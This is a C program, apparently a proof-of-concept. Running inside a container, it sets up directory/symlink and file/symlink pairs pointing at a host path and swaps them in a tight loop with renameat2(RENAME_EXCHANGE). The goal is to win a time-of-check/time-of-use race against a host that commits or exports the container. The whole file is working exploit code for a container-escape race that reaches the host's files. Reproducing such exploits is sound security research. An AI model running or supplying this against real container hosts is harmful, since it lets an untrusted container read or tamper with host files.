/* A running container swaps entries of its own upper layer with symlinks
 * to the host, as fast as it can, while the host commits or exports it
 * without pausing it.
 *
 *   exchange DIR TARGET CONTENT SECONDS
 *
 * makes, in DIR, two pairs: d/ (a real directory holding the file "key"
 * with CONTENT) and s -> TARGET; f (a file with CONTENT) and
 * l -> TARGET/key. Inside the container TARGET is just an absolute path;
 * read on the host it is a host directory. Prints "ready", then exchanges
 * d with s and f with l, with renameat2(RENAME_EXCHANGE), in a loop for at
 * most SECONDS. A host-side walk that resolves paths instead of holding
 * fds finds d a directory (or f a file), then opens d/key (or f) through
 * the symlink: the host's file. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void die(const char *what) {
    fprintf(stderr, "exchange: %s: %s\n", what, strerror(errno));
    exit(1);
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: exchange DIR TARGET CONTENT SECONDS\n");
        return 2;
    }
    const char *content = argv[3];
    time_t end = time(NULL) + atoi(argv[4]);
    if (mkdir(argv[1], 0755) != 0 && errno != EEXIST)
        die("mkdir DIR");
    if (chdir(argv[1]) != 0)
        die("chdir DIR");
    if (mkdir("d", 0755) != 0)
        die("mkdir d");
    int fd = open("d/key", O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd < 0)
        die("create d/key");
    if (write(fd, content, strlen(content)) != (ssize_t)strlen(content))
        die("write d/key");
    close(fd);
    if (symlink(argv[2], "s") != 0)
        die("symlink s");
    fd = open("f", O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd < 0 || write(fd, content, strlen(content)) != (ssize_t)strlen(content))
        die("create f");
    close(fd);
    char target[4096];
    snprintf(target, sizeof target, "%s/key", argv[2]);
    if (symlink(target, "l") != 0)
        die("symlink l");
    printf("ready\n");
    fflush(stdout);
    unsigned long swaps = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 10000; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) != 0)
                die("renameat2 RENAME_EXCHANGE");
            if (syscall(SYS_renameat2, AT_FDCWD, "f", AT_FDCWD, "l", RENAME_EXCHANGE) != 0)
                die("renameat2 RENAME_EXCHANGE");
            swaps++;
        }
    }
    printf("swapped %lu times\n", swaps);
    return 0;
}
